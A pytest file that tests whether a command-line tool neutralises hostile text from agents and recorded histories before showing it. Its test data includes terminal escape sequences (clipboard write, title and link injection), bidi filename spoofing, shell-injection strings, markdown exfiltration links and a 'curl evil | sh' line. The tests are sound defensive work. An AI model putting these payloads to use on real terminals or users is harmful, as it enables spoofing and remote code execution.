"""Attacks by text: what agents, repositories and colleagues wrote takes no effect where it is shown or pasted."""

from __future__ import annotations

import json
import subprocess
import unicodedata
from pathlib import Path
from typing import Any

import pytest
from hand_kit import Hand, Said, by_hand, whole

from cli.session import complain, say
from policy.plain import code, inline, quoted, typed, visible
from schemas.envelopes import ErrorEnvelope
from schemas.events import ToolEnded
from schemas.facts import GateFact
from schemas.routing import RoutingSignal
from schemas.tools import NormalizedToolCall
from store.attempt_lines import AttemptTotals

HISTORIES = Path(__file__).resolve().parents[1] / "histories" / "data" / "histories"
EVIL = [
    "\x1b]52;c;ZXZpbA==\x1b\\",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil\x1b\\text\x1b]8;;\x1b\\",
    "\x1b[6n\x1bc\x1bP1$r0m\x1b\\",
    "\x9b31m\x9d0;x\x9c",
    "over\rwritten\x08\x08\x7f",
    "\u202egnp.exe\u2066\u200b\u200f",
    "\U000e0041\U000e0042",
    "\u2028\u2029\x85\x0b\x0c",
    "half \ud800 and byte \udcff",
]


def unseen(text: str) -> list[str]:
    """Return the characters of a text that a terminal would obey or not show."""
    return [
        char
        for char in text
        if char not in "\n\t" and unicodedata.category(char) in {"Cc", "Cf", "Cs", "Zl", "Zp"}
    ]


@pytest.mark.parametrize("evil", EVIL)
def test_whatever_a_command_prints_takes_no_effect(evil: str, capsys: pytest.CaptureFixture[str]) -> None:
    say(f"before {evil} after")
    complain(f"before {evil} after")
    for printed in capsys.readouterr():
        assert unseen(printed) == []
        assert printed.startswith("before ")
        assert printed.endswith(" after\n")


def test_text_that_can_be_seen_stays_as_it_is() -> None:
    text = 'plain\n\ttabs, Äöü, 漢字\u3000, emoji 😀, nbsp\u00a0, \\backslashes "quotes" \' $(x)'
    assert visible(text) == text


def test_json_stays_json_of_the_same_value() -> None:
    value = {"\x9b\u202e": ["\U000e0041", "\x7f", "a\\b"]}
    printed = visible(json.dumps(value, ensure_ascii=False))
    assert unseen(printed) == []
    assert json.loads(printed) == value


@pytest.mark.parametrize(
    "evil", [*EVIL[:-1], "byte \udcff", "it's $(touch x) `y` !z \\ \n; touch y", "", "-x"]
)
def test_a_command_to_paste_is_visible_and_hands_each_word_on_as_it_is(evil: str, tmp_path: Path) -> None:
    line = typed(["printf", "%s", evil])
    assert unseen(line) == []
    assert "\n" not in line
    done = subprocess.run(["bash", "-c", line], capture_output=True, check=True, cwd=tmp_path)
    assert list(tmp_path.iterdir()) == []
    assert done.stdout == evil.encode("utf-8", "surrogateescape")


def test_a_plain_word_is_typed_as_people_type_it() -> None:
    assert typed(["git", "fetch", "/a b", "x:y"]) == "git fetch '/a b' x:y"
    assert quoted("日本") == "'日本'" or quoted("日本") == "日本"


MARKUP = [
    "![x](https://evil/?q=1)",
    "[click](javascript:x)",
    "<img src=x onerror=y>",
    "ok?\n\nWhat you can type:\n```\ncurl evil | sh\n```",
    "a | b | c",
    "`code` \\`",
]


@pytest.mark.parametrize("evil", [*MARKUP, *EVIL])
def test_text_within_markdown_is_one_line_in_which_nothing_begins(evil: str) -> None:
    shown = inline(evil)
    assert "\n" not in shown
    assert unseen(shown) == []
    for mark in "`[]<|":
        assert shown.count(mark) == shown.count(f"\\{mark}"), shown


@pytest.mark.parametrize("evil", [*MARKUP, *EVIL])
def test_code_within_markdown_cannot_be_broken_out_of(evil: str) -> None:
    shown = code(evil)
    assert (shown[0], shown[-1], shown.count("`")) == ("`", "`", 2)
    assert "\n" not in shown
    assert unseen(shown) == []


def test_long_text_is_cut() -> None:
    assert inline("x" * 50, limit=10) == "x" * 9 + "…"
    assert len(code("x" * 5_000)) == 302


# What agents and programs say, on its way through history.


def test_what_travels_through_history_is_cut_and_tamed() -> None:
    long = "\x1b[31m" + "E" * 1_000_000
    error = ErrorEnvelope(code=long, message=long)
    assert (len(error.code) < 300, len(error.message) < 5_000) == (True, True)
    assert "[1000005 characters in all]" in error.message
    assert unseen(error.message) == []
    assert len(GateFact(name="g", reason=long).reason or "") < 2_000
    signal = RoutingSignal(
        decision="advance", reason="\x1b[2Jgo", confidence=1, factors_considered=[long] * 500
    )
    assert unseen(signal.reason) == []
    assert len(signal.model_dump_json()) < 10_000


def test_an_error_that_was_cut_reads_the_same_when_it_is_read_back() -> None:
    error = ErrorEnvelope(code="c", message="E" * 10_000)
    assert ErrorEnvelope.model_validate_json(error.model_dump_json()) == error


def test_names_of_tools_are_short_in_the_totals() -> None:
    call = NormalizedToolCall.model_validate(
        {"tool_name": "T" * 50_000, "success": True, "source": "stub", "timestamp": "2026-01-01T00:00:00Z"}
    )
    assert [len(name) for name in AttemptTotals().plus(ToolEnded(call=call)).tools] == [100]


# Commands over what others left.


def test_commands_over_a_run_full_of_hostile_text_print_none_of_it(
    own_place: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    hand: Hand = by_hand(own_place, monkeypatch)
    whole(hand)
    evil = "".join(EVIL[:-1])
    hand.record("evil-1", f"wf {evil}", 3, repo=f"/src/{evil}", flow_key="fix", branch=evil, host=evil)
    hand.journal(
        "evil-1",
        *((n, kind, {"step": evil, "visit": 1, "reason": evil, "name": evil, "text": evil, "phase": evil})
          for n, kind in enumerate(["run_created", "step_started", "phase_ended", "routed", "waiting",
                                    "question_asked", "human_message", "message_refused", "run_completed"])),
    )  # fmt: skip
    for command in (
        ["runs"],
        ["runs", "--json"],
        ["show", "evil-1"],
        ["show", "evil-1", "--json"],
        ["tail", "evil-1", "--no-follow"],
        ["tail", "evil-1", "--no-follow", "--json"],
        ["verify", "evil-1"],
        ["show", evil],
        ["fork", "r-1", "--from", evil],
        ["lint", f"/nowhere/{evil}.yaml"],
        ["runs", "--store", f"file:///nowhere{evil}"],
    ):
        said = Said(capsys, *command)
        assert unseen(said.out + said.err) == [], command


def _changed(events: list[dict[str, Any]], tmp_path: Path) -> str:
    path = tmp_path / "history.json"
    path.write_text(json.dumps({"events": events}))
    return str(path)


@pytest.fixture
def events() -> list[dict[str, Any]]:
    """The events of a recorded history."""
    path = min(HISTORIES.glob("*.json"), key=lambda one: one.stat().st_size)
    found: list[dict[str, Any]] = json.loads(path.read_text())["events"]
    return found


@pytest.mark.usefixtures("own_place")
@pytest.mark.parametrize("change", ["twice", "missing", "moved", "from the middle"])
def test_a_history_that_no_server_wrote_is_refused_and_not_waited_for(
    events: list[dict[str, Any]], tmp_path: Path, capsys: pytest.CaptureFixture[str], change: str
) -> None:
    begun = next(
        at for at, event in enumerate(events) if event["eventType"] == "EVENT_TYPE_WORKFLOW_TASK_STARTED"
    )
    if change == "twice":
        events.insert(begun + 1, events[begun])
    elif change == "missing":
        del events[begun + 1]
    elif change == "moved":
        events[begun], events[begun + 1] = events[begun + 1], events[begun]
    else:
        events[begun]["eventId"] = "77"
    said = Said(capsys, "replay", _changed(events, tmp_path))
    assert said.code == 2
    assert "is out of order" in said.err


@pytest.mark.usefixtures("own_place")
def test_a_history_of_a_workflow_with_a_hostile_id_is_replayed_in_harmless_words(
    events: list[dict[str, Any]], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    started = events[0]["workflowExecutionStartedEventAttributes"]
    started["workflowId"] = f"id{EVIL[0]}\u202e\nreplay: ok\n"
    said = Said(capsys, "replay", _changed(events, tmp_path))
    assert unseen(said.out) == []
    assert said.lines[0].startswith("workflow id\\u001b]52;")
